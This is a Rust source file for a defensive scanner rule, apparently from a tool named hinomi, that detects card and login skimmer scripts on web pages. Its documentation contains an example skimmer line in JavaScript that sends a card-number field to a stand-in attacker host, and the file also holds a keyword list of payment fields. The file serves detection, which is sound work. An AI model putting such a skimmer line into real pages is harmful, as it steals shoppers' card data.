//! Rule `form-skimmer`: a script reads payment or login fields, and sends them to another site.

use super::support::{Hosts, NewScript, new_scripts};
use super::{Detector, Findings, Found};
use crate::model::{Action, Case, Confidence, Looks, Rule, Severity, Sink, StaticWords, Words};

/// # What it finds
///
/// A new script that reads form fields, speaks of cards, checkouts or passwords, and then sends something to an unknown
/// host: by a request, a picture, a frame or a socket.
///
/// # Why it matters
///
/// Skimmers have stolen cards from more than ten thousand shops since 2015; donation and fee pages of municipalities are
/// shops too.
///
/// # Example
///
/// ```js
/// new Image().src = "https://stat.evil.example/i?" + document.querySelector("[name=cardnumber]").value;
/// ```
///
/// # Known false alarms
///
/// Payment services and form services that hinomi knows by name are no finding; scripts that send their form to the own site
/// neither.
///
/// # References
///
/// Magecart reports (since 2015); a municipal tax-donation shop in Japan (2023).
pub(super) struct FormSkimmer;

static RULE: Rule = Rule {
    id: "form-skimmer",
    title: StaticWords { en: "Form contents are sent elsewhere", ja: "入力内容の外部送信" },
    why: StaticWords {
        en: "A script reads what visitors type into payment or login fields and sends it to another site.",
        ja: "スクリプトが、支払いやログインの入力欄の内容を読み取り、別のサイトへ送信します。",
    },
    first_step: StaticWords {
        en: "Take the form offline at once, keep a copy of the page and its script files, and find out since when the script has been there: people may have to be told.",
        ja: "直ちにフォームの公開を止め、ページとスクリプトファイルの写しを残し、いつから設置されていたかを調べてください。利用者への連絡が必要になることがあります。",
    },
};

impl Detector for FormSkimmer {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn examine(&self, case: &Case, out: &mut Findings) {
        let hosts = Hosts::of(case);
        out.extend(new_scripts(case).iter().filter_map(|script| judge(script, &hosts, case)));
    }
}

/// Words of payment and login forms.
const PRECIOUS: [&str; 17] = [
    "cardnumber",
    "card_number",
    "cc_number",
    "ccnumber",
    "creditcard",
    "credit_card",
    "cc_cid",
    "cc_exp",
    "cvv",
    "cvc",
    "securitycode",
    "checkout",
    "onepage",
    "onestep",
    "payment",
    "billing",
    "password",
];

fn judge(script: &NewScript, hosts: &Hosts, case: &Case) -> Option<Found> {
    if !script.report.looks.has(Looks::FIELDS) {
        return None;
    }
    let sends = script.foreign(hosts).into_iter().filter(|(action, _)| {
        let sends = matches!(action.sink, Sink::Network) || (action.sink == Sink::Element && action.by == "src");
        // What a request carries is given to it after it was opened.
        sends && carries(action) && (action.after.has(Looks::FIELDS) || action.sink == Sink::Network)
    });
    let (action, host) = sends.max_by_key(|(action, _)| action.decoded)?;
    let texts = script.words();
    let named = PRECIOUS.iter().filter(|word| texts.iter().any(|text| text.contains(**word))).count();
    let precious = named + if texts.iter().any(|text| harvests(text)) { 2 } else { 0 };
    let (severity, confidence) = match (case.approved.is_some(), precious) {
        (_, 0) => return None,
        (true, _) => (Severity::Critical, Confidence::Firm),
        (false, 1) if !action.decoded => (Severity::Medium, Confidence::Tentative),
        (false, _) => (Severity::High, Confidence::Firm),
    };
    let words = Words::new(
        format!("a script reads form fields and sends something to {host}"),
        format!("スクリプトがフォームの入力内容を読み取り、{host} へ送信します"),
    );
    Some(Found::new(severity, confidence, words).on(script.item).decoded(&action.target))
}

/// Whether a request can carry what was read: the address of a file (a sound, a picture) that is written out whole carries
/// nothing.
fn carries(action: &Action) -> bool {
    let is_file = action.by.ends_with("src") && !action.decoded;
    !is_file || action.target.contains('…') || action.after.has(Looks::FIELDS)
}

/// Whether a script asks for every field of the page, whatever its name.
fn harvests(text: &str) -> bool {
    let plain: String = text.chars().filter(|c| !c.is_whitespace() && !matches!(c, '"' | '\'' | '\\')).collect();
    let all = ["queryselectorall(input", "getelementsbytagname(input", "(input,select", "select,input", "(:input)"];
    all.iter().any(|call| plain.contains(call))
}
